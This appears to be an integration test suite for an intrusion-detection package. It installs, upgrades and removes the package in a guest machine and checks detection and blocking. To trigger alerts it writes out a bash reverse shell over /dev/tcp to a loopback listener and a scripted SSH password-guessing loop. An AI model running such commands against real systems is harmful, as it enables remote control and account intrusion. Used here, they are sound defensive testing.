# SPDX-License-Identifier: Apache-2.0
"""What is tried in the guest, in this order: each goes on from where the one before left the machine."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from typing import NamedTuple

from tests.installed import traces
from tests.installed.guest import DASHBOARD, CheckError, Guest
from tests.installed.packages import LEFT_OVER, PREVIOUS_VERSION, Disk

UNITS = ("innerwarden-sensor", "innerwarden-agent")
OURS, ATTACKER, NEIGHBOUR, BLOCKED_BY_HAND = "198.51.100.1", "198.51.100.66", "198.51.100.67", "203.0.113.9"
APT_S = 600.0
#: The first start compiles what was not compiled for the package.
START_S = 600.0
#: What doctor says of hooks that this kernel lacks, and of what nobody may do for a test.
NOT_PROVABLE = ("this kernel has no syscall", "no harmless action causes it")
#: The operator's own words: they must outlive an upgrade.
CONFIG = "/etc/innerwarden/config.toml"
SWITCHES = f"sed -i 's/^enabled = false$/enabled = true/; s/^dry_run = true$/dry_run = false/' {CONFIG}"
RULE = "/etc/innerwarden/triage.d/guessing.toml"
RULE_TEXT = """
[[rule]]
id = "password-guessing"
why = "passwords are guessed from there"
detectors = ["ssh_bruteforce"]
min_confidence = 0.2
verb = "block_address"
entity = "ip"
ttl_s = 3600
auto_execute = true
"""
NETWORK = f"""set -e
ip netns add attacker
ip link add iw-test type veth peer name eth0 netns attacker
ip addr add {OURS}/24 dev iw-test
ip link set iw-test up
ip -n attacker link set lo up
ip -n attacker link set eth0 up
ip -n attacker addr add {ATTACKER}/24 dev eth0
ip -n attacker addr add {NEIGHBOUR}/24 dev eth0
"""
#: Two connections of six passwords each; sshd waits some seconds after each wrong one. A block may cut them off.
GUESSING = f"""cat >/run/control.answer <<'END'
#!/bin/sh
echo wrong
END
chmod 700 /run/control.answer
for account in root admin; do
	SSH_ASKPASS=/run/control.answer SSH_ASKPASS_REQUIRE=force timeout 90 ip netns exec attacker ssh -b {ATTACKER} -n \\
		-o NumberOfPasswordPrompts=6 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=60 \\
		-o PreferredAuthentications=password $account@{OURS} true 2>/run/control.$account &
done
wait
cat /run/control.*
"""


class Run:
    """The guest, and what one check leaves for the next."""

    def __init__(self, guest: Guest, disk: Disk, blind: tuple[str, ...] = ()) -> None:
        """`blind`: as image.Release has it."""
        self.guest = guest
        self.blind = blind
        self.disk = disk
        self.before: traces.Traces | None = None
        self.known: set[str] = set()
        self.block = ""
        self.removed: list[str] = []


class Check(NamedTuple):
    """`needed`: without it what follows says nothing."""

    title: str
    do: Callable[[Run], str]
    needed: bool = False


def _prepare(run: Run) -> str:
    run.guest.do("mount -o ro /dev/vdb /srv/packages && apt-get update -q", APT_S)
    run.guest.do(NETWORK)
    run.before = traces.look(run.guest)
    return f"{len(run.before.found['file'])} files, {len(run.before.found['unit'])} units"


def _install(run: Run, package: str) -> str:
    text = run.guest.do(
        f"cd /srv/packages && DEBIAN_FRONTEND=noninteractive apt-get install -y ./{package}", APT_S
    )
    lines = [line for line in text.splitlines() if line.startswith("Setting up ")]
    return f"{len(lines)} packages set up"


def _first_install(run: Run) -> str:
    said = _install(run, run.disk.previous)
    _expect_version(run, PREVIOUS_VERSION)
    return said


def _expect_version(run: Run, version: str) -> None:
    found = run.guest.do("dpkg-query -W -f '${Version} ${db:Status-Status}' innerwarden")
    if found != f"{version} installed":
        raise CheckError(f"dpkg says {found!r}, not {version} installed")


def _both_live(run: Run) -> str:
    """systemd and the product say so about the same processes; the agent, by answering."""
    guest = run.guest

    def alive() -> str | None:
        sensor, agent = map(guest.main_pid, UNITS)
        said = guest.api("sensor")["sensor"]
        if not agent or not sensor or said["state"] != "watching" or said["pid"] != sensor:
            raise CheckError(
                f"systemd has {sensor} and {agent}, the agent says {said['state']} of {said['pid']}"
            )
        return f"sensor {sensor}, agent {agent}, {said['hooks_attached']} hooks"

    return guest.wait_for("live sensor and agent", alive, START_S)


def _services(run: Run) -> str:
    """And nothing of ours failed or logged an error on the way."""
    guest = run.guest
    guest.token = guest.wait_for("state.db", lambda: str(guest.cli("dashboard", "token")["token"]))
    said = _both_live(run)
    status = guest.cli("status", codes=(0, 1))
    if status["trouble"] or not (status["sensor"]["alive"] and status["agent"]["alive"]):
        raise CheckError(f"status: {status['sensor']}, {status['agent']}, {status['trouble']}")
    _no_trouble(guest)
    return said


def _no_trouble(guest: Guest) -> None:
    """No unit failed, and no thread of ours ended with an error that a sandbox of its unit caused."""
    failed = guest.do(
        "systemctl --failed --plain --no-legend; journalctl -b -q -p err -u 'innerwarden*'\n"
        "journalctl -b -q -o cat -u 'innerwarden*' | grep -A20 Traceback | grep -vE '^ +' | head -20"
    )
    if failed.strip():
        raise CheckError(failed.strip())


def _observes_only(run: Run) -> str:
    """Installed and not configured, nothing acts."""
    state = run.guest.run("systemctl is-active innerwarden-responder").text.strip()
    answer = run.guest.run(f"innerwarden block {BLOCKED_BY_HAND}")
    tables = run.guest.do("nft list tables")
    if answer.status == 0 or "innerwarden" in tables:
        raise CheckError(f"block says {answer.text!r}, tables {tables!r}")
    return f"responder {state}, a block is refused"


def _reverse_shell(run: Run, port: int) -> str:
    """The listener stands on loopback, has one word for the shell, and both end within seconds."""
    script = f"""echo 'echo here-$((40+2)); sleep 1; exit' | timeout 20 nc -l -N 127.0.0.1 {port} &
for try in $(seq 50); do ss -Hltn 'sport = :{port}' | grep -q . && break; sleep 0.1; done
timeout 20 bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'
wait"""
    said = run.guest.do(script)
    if "here-42" not in said:
        raise CheckError(f"the shell itself did not work: {said}")
    return run.guest.wait_for_incident("reverse_shell", f":{port}")


def _shell_is_told(run: Run) -> str:
    return _reverse_shell(run, 4401)


def _configure(run: Run) -> str:
    run.guest.do(
        f"{SWITCHES}\nmkdir -p {RULE.rpartition('/')[0]}\ncat >{RULE} <<'END'{RULE_TEXT}END\n"
        f"grep -q '^enabled = true$' {CONFIG} && grep -q '^dry_run = false$' {CONFIG} && innerwarden config check"
    )
    run.known = {row["incident_id"] for row in run.guest.incidents()}
    return f"{len(run.known)} incidents so far"


def _upgrade(run: Run) -> str:
    version = run.guest.do(f"dpkg-deb --field /srv/packages/{run.disk.package} Version").strip()
    pids = [run.guest.main_pid(unit) for unit in UNITS]
    said = _install(run, run.disk.package)
    _expect_version(run, version)
    if run.guest.run(f"test -e /{LEFT_OVER}").status == 0:
        raise CheckError(f"/{LEFT_OVER} of the build before is still there")
    _both_live(run)
    if same := [unit for unit, pid in zip(UNITS, pids, strict=True) if run.guest.main_pid(unit) == pid]:
        raise CheckError(f"not restarted: {', '.join(same)}")
    return said


def _state_kept(run: Run) -> str:
    now = {row["incident_id"] for row in run.guest.incidents()}
    if lost := run.known - now:
        raise CheckError(f"lost in the upgrade: {', '.join(sorted(lost))}")
    run.guest.do(f"grep -q '^dry_run = false$' {CONFIG} && grep -q auto_execute {RULE}")
    return f"{len(run.known)} incidents, the token, configuration and rule"


def _doctor(run: Run) -> str:
    """Every hook that this kernel has is proven by an own action, or another stands in for it; so is the journal.

    Other log sources have no file here, and the first look at the host takes its time.
    """

    def sees() -> str | None:
        found = run.guest.cli("doctor", codes=(0, 1))
        wrong = [f"{c['name']}: {c['detail']}" for c in found["checks"] if c["state"] == "failed"]
        proofs = {p["source"]: p for p in found["proofs"]}
        blind = [
            f"{p['source']}: {p['result']}, {p['reason']}"
            for p in proofs.values()
            if (p["kind"] not in ("log", "inventory") or p["source"] == "journald")
            and p["result"] != "working"
            and not p.get("stand_in")
            and not p["reason"].startswith((*NOT_PROVABLE, *run.blind))
        ]
        if wrong or blind or "journald" not in proofs:
            raise CheckError("; ".join(wrong + blind) or "no journal among the sources")
        return f"{sum(p['result'] == 'working' for p in proofs.values())} of {len(proofs)} sources proven"

    return run.guest.wait_for("doctor that is content", sees)


def _answers(run: Run) -> str:
    """The page to everybody, the API only with the token, and the same as the command line says."""
    codes = run.guest.do(
        f"for path in login api/v1/incidents; do curl -s -o /dev/null -w '%{{http_code}} ' {DASHBOARD}/$path; done"
    )
    if codes.split() != ["200", "401"]:
        raise CheckError(f"login and API answer {codes} without a token, not 200 401")
    told = {row["incident_id"] for row in run.guest.cli("incidents", "--detector", "reverse_shell")}
    shown = {row["incident_id"] for row in run.guest.api("incidents?detector=reverse_shell")["incidents"]}
    if told != shown or not told:
        raise CheckError(f"the command line tells {told}, the dashboard {shown}")
    return "200 to the page, 401 without the token, incidents with it"


def _reaches(run: Run, source: str) -> bool:
    return run.guest.run(f"ip netns exec attacker nc -z -w 5 -s {source} {OURS} 22").status == 0


def _guessing(run: Run) -> str:
    if not _reaches(run, ATTACKER):
        raise CheckError("the attacker does not reach sshd at the beginning")
    said = run.guest.run(GUESSING)
    if "Permission denied" not in said.text and "Connection" not in said.text:
        raise CheckError(f"nobody guessed: {said.text}")
    return run.guest.wait_for_incident("ssh_bruteforce", ATTACKER)


def _blocked(run: Run) -> str:
    """By the operator's rule, without anybody asking; the neighbour on the same wire is left alone."""

    def active() -> str | None:
        found = run.guest.api("responses")
        for row in found["in_effect"]:
            if row["target"] == ATTACKER and row["state"] == "active":
                return str(row["response_id"])
        rows = [*found["waiting"], *found["in_effect"], *found["over"]]
        raise CheckError(f"responses: {[(row['target'], row['state'], row['detail']) for row in rows]}")

    run.block = run.guest.wait_for("block in effect", active)
    if _reaches(run, ATTACKER):
        raise CheckError(f"{ATTACKER} still reaches sshd")
    if not _reaches(run, NEIGHBOUR):
        raise CheckError(f"{NEIGHBOUR}, which did nothing, does not reach sshd")
    return run.block


def _kill(run: Run, unit: str, port: int) -> str:
    guest = run.guest
    before = {row["incident_id"] for row in guest.incidents()}
    pid = guest.main_pid(unit)
    guest.do(f"kill -9 {pid}")

    def again() -> int | None:
        return next((new for new in (guest.main_pid(unit),) if new not in (0, pid)), None)

    new = guest.wait_for(f"new process of {unit}", again)
    _both_live(run)
    _reverse_shell(run, port)
    now = {row["incident_id"] for row in guest.incidents()}
    if lost := before - now:
        raise CheckError(f"lost: {', '.join(sorted(lost))}")
    guesses = guest.incidents_of("ssh_bruteforce", ATTACKER)
    if len(guesses) != 1:
        raise CheckError(f"one attack is told as {guesses}")
    return f"{pid} became {new}; {len(before)} incidents kept, one new"


def _agent_killed(run: Run) -> str:
    """What happens while it is dead is told, once, after it is back."""
    return _kill(run, "innerwarden-agent", 4402)


def _sensor_killed(run: Run) -> str:
    return _kill(run, "innerwarden-sensor", 4403)


def _logs(run: Run) -> str:
    _no_trouble(run.guest)
    return "no failed unit, no error with a stack"


def _told(run: Run) -> str:
    """What was told, by detector."""
    rows = run.guest.cli("incidents", "--limit", "10000")
    counted = Counter(f"{row['severity']} {row['detector']}" for row in rows)
    return ", ".join(f"{count} {name}" for name, count in counted.most_common())


def _still_blocked(run: Run) -> str:
    if _reaches(run, ATTACKER):
        raise CheckError(f"{ATTACKER} reaches sshd since a daemon was killed")
    return "the block outlived both"


def _undone(run: Run) -> str:
    run.guest.cli("undo", run.block)
    run.guest.wait_for("way in after the undo", lambda: True if _reaches(run, ATTACKER) else None)
    return f"{ATTACKER} reaches sshd again"


def _remove(run: Run) -> str:
    """With a block in effect, which nobody would end any more."""
    run.guest.cli("block", BLOCKED_BY_HAND)
    # The command is over when the agent has taken it.
    run.guest.wait_for(
        f"{BLOCKED_BY_HAND} in the packet filter",
        lambda: BLOCKED_BY_HAND in run.guest.do("nft list ruleset") or None,
    )
    run.guest.do("DEBIAN_FRONTEND=noninteractive apt-get remove -y innerwarden", APT_S)
    rules = run.guest.do("nft list ruleset")
    alive = run.guest.run("pgrep -af innerwarden").text.strip()
    if "innerwarden" in rules or alive:
        raise CheckError(f"still there: {alive} {rules}")
    run.guest.do(f"test -e {CONFIG} && test -e {RULE} && test -d /var/lib/innerwarden")
    return "no process, no rule; configuration and state are kept"


def _purge(run: Run) -> str:
    # What it brought with it goes too: links of alternatives belong to no package's list of files.
    run.guest.do("DEBIAN_FRONTEND=noninteractive apt-get purge -y --autoremove innerwarden", APT_S)
    run.guest.do("systemctl reset-failed")
    assert run.before is not None
    left = traces.left_behind(run.before, traces.look(run.guest))
    if left:
        raise CheckError(f"{len(left)} left: " + "; ".join(left[:40]))
    return f"compared: {', '.join(traces.LISTS)}"


CHECKS = (
    Check("a fresh machine", _prepare, needed=True),
    Check("apt install", _first_install, needed=True),
    Check("services live", _services, needed=True),
    Check("nothing acts by default", _observes_only),
    Check("reverse shell is told", _shell_is_told),
    Check("configured: responder on", _configure, needed=True),
    Check("upgrade", _upgrade, needed=True),
    Check("upgrade keeps state", _state_kept),
    Check("doctor: it really sees", _doctor),
    Check("dashboard answers", _answers),
    Check("ssh guessing is told", _guessing),
    Check("attacker is blocked", _blocked),
    Check("agent killed", _agent_killed),
    Check("sensor killed", _sensor_killed),
    Check("the block stands", _still_blocked),
    Check("the block is undone", _undone),
    Check("what was told", _told),
    Check("nothing went wrong unseen", _logs),
    Check("remove", _remove),
    Check("purge leaves nothing", _purge),
)
